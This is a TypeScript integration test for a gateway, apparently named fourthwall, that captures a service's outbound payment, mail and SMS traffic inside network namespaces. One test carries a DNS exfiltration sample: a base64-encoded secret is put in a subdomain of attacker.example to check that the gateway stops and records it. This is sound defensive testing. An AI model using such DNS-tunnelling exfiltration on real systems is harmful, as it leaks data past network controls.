import { execFile, spawn } from 'node:child_process';
import type { ChildProcess } from 'node:child_process';
import { once } from 'node:events';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { capturePolicy } from '../support/gateway.ts';
import { addresses, buildTown, whyNot, type Town } from './namespaces.ts';

/** A service whose only route is the gateway, in network namespaces. docs/network.md describes the same for real networks. */
const root = fileURLToPath(new URL('../../', import.meta.url));
const reason = await whyNot();
if (reason !== null) process.stderr.write(`test/network is skipped: ${reason}\n`);

const outsidePorts = ['443', '25', '465', '587'];
const children: ChildProcess[] = [];
let town: Town | null = null;
let directory: string;
let caFile: string;
let control: string;
let heardOutside = '';

/** Starts a program in a namespace and waits for the line it says when it is ready. */
async function begin(namespace: string, args: readonly string[], ready: RegExp): Promise<{ readonly child: ChildProcess; readonly line: string }> {
  const child = spawn('ip', ['netns', 'exec', namespace, process.execPath, ...args], { cwd: root, stdio: ['ignore', 'pipe', 'pipe'] });
  children.push(child);
  let err = '';
  child.stderr?.on('data', (chunk: Buffer) => { err += chunk.toString(); });
  const line = await new Promise<string>((resolve, reject) => {
    createInterface({ input: child.stdout! }).on('line', (said) => { if (ready.test(said)) resolve(said); });
    child.once('exit', (code) => reject(new Error(`${args[0]} ended with ${code}:\n${err}`)));
  });
  return { child, line };
}

interface Ran { readonly code: number; readonly out: string; readonly err: string }
const run = (namespace: string, args: readonly string[], env: Readonly<Record<string, string>> = {}, program = process.execPath): Promise<Ran> =>
  promisify(execFile)('ip', ['netns', 'exec', namespace, program, ...args], { cwd: root, env: { PATH: process.env['PATH'] ?? '', HOME: directory, ...env }, timeout: 60_000 })
    .then(({ stdout, stderr }) => ({ code: 0, out: stdout, err: stderr }), (error: { code: number; stdout: string; stderr: string }) => ({ code: error.code, out: error.stdout, err: error.stderr }));
const inService = (app: string, ...args: readonly string[]): Promise<Ran> => run(town!.service, [join('test/network/apps', app), ...args], { NODE_EXTRA_CA_CERTS: caFile });
const fourthwall = (...args: readonly string[]): Promise<Ran> => run(town!.gateway, ['src/cli/fourthwall.ts', ...args, '--url', control]);

beforeAll(async () => {
  if (reason !== null) return;
  directory = await mkdtemp(join(tmpdir(), 'fourthwall-net-'));
  town = await buildTown();
  const config = join(directory, 'config');
  await mkdir(config);
  await writeFile(join(config, 'policy.yaml'), capturePolicy);
  await writeFile(join(config, 'gateway.yaml'), `origins: [{ cidr: ${addresses.service}/32, service: shop }]\n`);
  const vendor = await begin(town.outside, ['test/network/apps/vendor.ts', addresses.outside, ...outsidePorts], /^ready/);
  vendor.child.stdout?.on('data', (chunk: Buffer) => { heardOutside += chunk.toString(); });
  const { line } = await begin(town.gateway, [
    'src/cli/fourthwall.ts', 'start', '--host', addresses.gateway, '--http-port', '80', '--tls-port', '443', '--smtp-port', '25', '--smtps-port', '465',
    '--dns-port', '53', '--control-port', '0', '--preview-port', 'off', '--data', join(directory, 'data'), '--config', config,
  ], /^fourthwall ready /);
  control = `http://127.0.0.1:${/control=(\d+)/.exec(line)![1]}`;
  expect(line).toMatch(/ dns=53$/);
  caFile = join(directory, 'data', 'ca', 'ca.pem');
});
afterAll(async () => {
  for (const child of children) {
    if (child.exitCode !== null || child.signalCode !== null) continue;
    child.kill('SIGTERM');
    await once(child, 'exit');
  }
  await town?.remove();
  if (directory !== undefined) await rm(directory, { recursive: true, force: true });
});

describe.skipIf(reason !== null)('a service whose only route is the gateway', () => {
  it('reaches nobody directly, although the outside is there', async () => {
    const direct = JSON.parse((await inService('way-round.ts', addresses.outside, ...outsidePorts)).out) as Record<string, string>;
    for (const port of outsidePorts) expect(direct[port]).toMatch(/^(no answer|ENETUNREACH|EHOSTUNREACH|ECONNREFUSED|ETIMEDOUT)$/);
    expect(direct['dns']).not.toBe('resolved');
    expect(heardOutside).not.toContain(addresses.service);
    // The control: from the gateway's side the same addresses answer, so it is the network that holds the service.
    const fromGateway = JSON.parse((await run(town!.gateway, ['test/network/apps/way-round.ts', addresses.outside, ...outsidePorts])).out) as Record<string, string>;
    for (const port of outsidePorts) expect(fromGateway[port]).toBe('connected');
    expect(heardOutside).toContain(`tcp 443 from ${addresses.gatewayOutside}`);
  });

  it('has its official SDKs captured through DNS and SNI without one line of configuration', async () => {
    const { out, err, code } = await inService('shop.ts');
    expect([code, err]).toEqual([0, '']);
    const shop = JSON.parse(out) as Record<string, unknown>;
    expect(shop).toMatchObject({
      paid: { status: 'succeeded', capture: expect.stringMatching(/^cap_/) },
      mailed: { status: 202, capture: expect.stringMatching(/^cap_/) },
      texted: 'SM',
      relayed: expect.stringMatching(/^250 .*captured cap_/),
      submitted: expect.stringMatching(/^250 .*captured cap_/),
      plain: { status: 403, capture: expect.stringMatching(/^cap_/) },
      unknown: expect.stringMatching(/^ERR_SSL_|^ECONNRESET$/),
    });
    const listed = (await fourthwall('captures', 'list', '--service', 'shop', '--json')).out;
    for (const provider of ['stripe', 'sendgrid', 'twilio', 'smtp']) expect(listed).toContain(`"provider":"${provider}"`);
    expect(heardOutside).not.toContain(addresses.service);
    // The two unknown hosts were refused and recorded: nothing real was sent, and it is said that something was not understood.
    expect((await fourthwall('assert', '--service', 'shop', '--expect', 'no-real-sends,no-forwarded,min-captures=5')).code).toBe(0);
    expect((await fourthwall('assert', '--service', 'shop')).code).toBe(1);
  });

  it('has Python\'s smtplib and urllib captured as well', async ({ skip }) => {
    const script = `
import json, smtplib, ssl, urllib.request
context = ssl.create_default_context()
with smtplib.SMTP('mail.provider.example', 25) as smtp:
    smtp.starttls(context=context)
    smtp.sendmail('shop@example.test', ['ann@example.test'], 'Subject: from Python\\r\\n\\r\\nHello')
request = urllib.request.Request('https://api.stripe.com/v1/customers', data=b'email=ann%40example.test', headers={'Authorization': 'Bearer sk_' + 'test_' + '0' * 24})
with urllib.request.urlopen(request) as response:
    print(json.dumps([response.status, response.headers['x-fourthwall-capture'][:4]]))
`;
    const python = process.env['FOURTHWALL_TEST_PYTHON'] ?? 'python3';
    if ((await run(town!.service, ['--version'], {}, python)).code !== 0) skip('python3 is not installed here');
    const { out, err } = await run(town!.service, ['-c', script], { SSL_CERT_FILE: caFile }, python);
    expect([err, out.trim()]).toEqual(['', '[200, "cap_"]']);
    expect((await fourthwall('captures', 'list', '--q', '"from Python"', '--json')).out).toContain('from Python');
  });

  it('cannot carry data out in names: every name is answered by the gateway and nobody else hears of it', async () => {
    const script = `import('node:dns/promises').then(async ({ Resolver, lookup }) => {
      const resolver = new Resolver(); const secret = 'c2VjcmV0.attacker.example';
      process.stdout.write(JSON.stringify([await resolver.resolve4(secret), (await lookup(secret, { family: 4 })).address, await resolver.resolveTxt(secret).catch((error) => error.code)]));
    })`;
    expect(JSON.parse((await run(town!.service, ['-e', script])).out)).toEqual([[addresses.gateway], addresses.gateway, 'ENODATA']);
    expect(heardOutside).not.toContain('udp 53 from 10.');
    const events = await run(town!.gateway, ['-e', `fetch('${control}/api/events?after=0', { headers: { 'last-event-id': '0' } }).then(async ({ body }) => {
      let text = ''; for await (const chunk of body) { text += Buffer.from(chunk).toString(); if (text.includes('attacker.example')) { process.stdout.write('noted'); process.exit(0); } } })`]);
    expect(events.out).toBe('noted');
  });
});
